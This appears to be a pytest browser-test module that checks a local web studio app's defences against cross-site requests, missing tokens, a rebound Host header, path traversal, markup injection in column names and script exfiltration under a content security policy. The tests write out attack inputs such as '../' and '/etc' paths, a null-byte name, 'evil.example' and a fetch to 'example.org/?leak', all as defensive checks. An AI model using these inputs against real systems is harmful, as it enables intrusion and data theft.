"""Whoever should not get in: other sites, other names, no token, names that lead elsewhere, columns
that were named to break a page."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from sfumato.data.io import write
from sfumato.studio.desk import Desk
from tests.contract.hostile import SHOWN, hostile
from tests.studio.browser.driving import ROOMS, Registers, Seats, Served, answers
from tests.studio.trials import PLAN, people

_FOREIGN = """<!DOCTYPE html><html lang="en"><title>elsewhere</title><body>
<form id="send" method="post" action="{undo}"><input name="back" value="x"></form>
<form id="bare" method="post" action="{undo}" enctype="text/plain"><input name="version"></form>
<img id="seen" src="{page}" alt=""><script src="{script}"></script>
</body></html>"""


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, dict[str, str]]]:
    """Another site on another port of this machine, and what it shows."""
    shown: dict[str, str] = {}

    class Site(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = shown.get("page", "").encode()
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Site)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/", shown
    server.shutdown()
    server.server_close()


def test_another_site_gets_nothing(
    seats: Seats, served: Served, registers: Registers, elsewhere: tuple[str, dict[str, str]]
) -> None:
    """Ports are one site to a browser: the cookie goes along, and only the studio's door helps."""
    site, shown = elsewhere
    desk = registers.plan("foreign")
    desk.edit("a change", lambda text: text + "\n# mine\n")
    before = desk.text
    context = seats.context()
    seats.seat(served, context).go(desk)
    shown["page"] = _FOREIGN.format(
        undo=served.place(desk, "undo"), page=served.place(desk, "data"),
        script=f"{served.origin}/static/studio.js",
    )  # fmt: skip
    page = context.new_page()
    seen = answers(page)
    for form in ("send", "bare"):
        page.goto(site)
        with page.expect_navigation():
            page.locator(f"#{form}").evaluate("form => form.submit()")
        assert "cannot" in page.inner_text("body")
    assert [one.status for one in seen if one.url.startswith(served.origin)] == [403, 403]
    page.goto(site)
    for words in ("", 'credentials: "include"', 'credentials: "include", mode: "no-cors"',
                  'method: "POST", credentials: "include", mode: "no-cors"'):  # fmt: skip
        got = page.evaluate(
            f"address => fetch(address, {{{words}}}).then(() => 'got', () => 'kept')",
            served.place(desk, "undo" if "POST" in words else "data"),
        )
        assert got == "kept", words
    # Neither what it shows as a picture nor what it runs as a script is there.
    assert page.locator("#seen").evaluate("picture => picture.naturalWidth") == 0
    assert {one.status for one in seen if one.url.startswith(served.origin)} == {403}
    assert desk.text == before


def test_no_page_without_the_token(seats: Seats, served: Served, registers: Registers) -> None:
    desk = registers.plan("tokenless")
    context = seats.context()
    page = context.new_page()
    own = f"plan/{desk.key}"
    for place in ("", "files", f"{own}/data", f"{own}/jobs", "static/studio.css",
                  "?token=", "?token=wrong", f"?token={served.token}x"):  # fmt: skip
        found = page.goto(f"{served.origin}/{place}")
        assert found is not None
        assert found.status == 403, place
        assert "register" not in page.content()
    posted = context.request.post(
        served.place(desk, "undo"), headers={"origin": served.origin}, form={"back": ""}
    )
    assert posted.status == 403
    # With it one is let in, and it leaves the address.
    page.goto(served.address)
    assert page.url == f"{served.origin}/"
    cookie = context.cookies()[0]
    assert cookie["httpOnly"]
    assert cookie["sameSite"] == "Strict"
    # Another name that leads here, as a rebound domain would, is not answered.
    named = context.request.get(f"{served.origin}/files", headers={"host": "evil.example"})
    assert named.status == 403


def test_nothing_outside_the_folder_is_chosen(
    seats: Seats, served: Served, registers: Registers
) -> None:
    secret = served.root.parent / f"{served.root.name}-secret.csv"
    secret.write_text("who,what\na,b\n")
    registers.file("inside")
    (served.root / "inside" / "out.csv").symlink_to(secret)
    seat = seats.seat(served)
    seat.allow("status of 422")
    for named in (f"../{secret.name}", str(secret), "inside/out.csv", "inside/../../x.csv", "a\0b"):
        seat.page.goto(f"{served.origin}/files?folder=inside")
        field = seat.page.locator("form[action='/open'] input[name=file]").first
        field.evaluate("(field, name) => { field.value = name; }", named)
        seat.click("register.csv")
        assert "not below the folder" in seat.words, named
    for folder in ("..", "inside/../..", "/etc"):
        answer = seat.page.goto(f"{served.origin}/files?folder={folder}")
        assert answer is not None
        assert answer.status == 422
        assert "secret" not in seat.page.content()
    assert "out.csv" not in seat.page.goto(f"{served.origin}/files?folder=inside").text()  # type: ignore[union-attr]
    assert not secret.with_suffix(".toml").exists()


@pytest.mark.parametrize("which", [6, 7])
def test_hostile_columns_are_text(seats: Seats, served: Served, which: int) -> None:
    folder = served.root / f"hostile-{which}"
    folder.mkdir()
    write(hostile(which), folder / "people.csv")
    seat = seats.seat(served)
    seat.page.goto(f"{served.origin}/files?folder={folder.name}")
    seat.click("people.csv").idle()
    desk = Desk(folder / "people.toml")
    assert desk.text, seat.words
    seat.page.locator("#plan ol.code").wait_for()
    for room in ROOMS:
        seat.go(desk, room).idle()
        assert seat.page.locator("main script, main b, [onerror]").count() == 0, room
        assert seat.page.locator("script").count() == 1, room
        content = seat.page.content()
        assert not any(sign in content for sign in SHOWN), room


def test_a_release_of_hostile_names_is_text(seats: Seats, served: Served) -> None:
    """All rooms when there is a release in them, and what is published of it."""
    folder = served.root / "hostile-released"
    folder.mkdir()
    people().write_csv(folder / "people.csv")
    desk = Desk(folder / "<i>plan.toml")
    desk.path.write_text(PLAN, encoding="utf-8")
    seat = seats.seat(served).go(desk, "protect").click("Try the plan").idle()
    assert "every requirement is met" in seat.words
    seat.room("Publish").click("Write the release").idle()
    assert "The release is written" in seat.words
    for room in ROOMS:
        seat.go(desk, room).idle()
        leaves = seat.page.locator(".tabs a:not([aria-current])")
        for place in ("", *leaves.evaluate_all("all => all.map(one => one.href)")):
            if place:
                seat.page.goto(place)
                seat.idle()
            assert seat.page.locator("script").count() == 1, seat.page.url
            assert seat.page.locator("main b, main i, [onerror]").count() == 0, seat.page.url
    report = (folder / "release" / "report.html").read_text(encoding="utf-8")
    assert "<b>x" not in report
    assert "<i>n</i>" not in report


def test_the_page_cannot_reach_out(seats: Seats, served: Served, registers: Registers) -> None:
    """Were somebody's script on a page after all, the content policy would hold it."""
    seat = seats.seat(served).go(registers.plan("reaching"))
    seat.allow("Content Security Policy")
    seat.allow("Refused to")
    reached = seat.page.evaluate(
        "() => fetch('https://example.org/?leak').then(() => 'reached', () => 'held')"
    )
    assert reached == "held"
    assert not [one for one in seat.requests if "example.org" in one]
    inline = (
        "() => { const s = document.createElement('script'); s.textContent = 'window.got = 1'; "
    )
    seat.page.evaluate(inline + "document.body.append(s); }")
    assert seat.page.evaluate("() => window.got") is None


def test_downloads_and_pages_are_not_kept(
    seats: Seats, served: Served, registers: Registers, tmp_path: Path
) -> None:
    seat = seats.seat(served)
    answer = seat.page.goto(served.place(registers.plan("cached"), "data"))
    assert answer is not None
    headers = answer.headers
    assert headers["cache-control"] == "no-store"
    assert headers["referrer-policy"] == "same-origin"
    assert "script-src 'self'" in headers["content-security-policy"]
    assert "unsafe" not in headers["content-security-policy"]


def test_a_plan_of_others_is_asked_about_before_it_reaches_out(
    seats: Seats, served: Served
) -> None:
    secret = served.root.parent / f"{served.root.name}-reached.csv"
    secret.write_text("who,what\n" + "neighbour,secret\n" * 20)
    folder = served.root / "sent"
    folder.mkdir()
    desk = Desk(folder / "plan.toml")
    desk.path.write_text(
        f'[input]\npath = "../../{secret.name}"\n[columns]\nwho = "quasi"\n[output]\npath = "out"\n'
    )
    seat = seats.seat(served)
    seat.page.goto(f"{served.origin}/files?folder={folder.name}")
    seat.click("plan.toml").idle()
    for room in ROOMS:
        seat.go(desk, room)
        assert "reaches outside of the folder" in seat.words, room
        assert str(secret) in seat.words
        assert "neighbour" not in seat.page.content()
    assert not desk.room.exists()
    seat.go(desk, "data").click("Let it read them").idle()
    assert "reaches outside" not in seat.words
    assert desk.last("columns") is not None
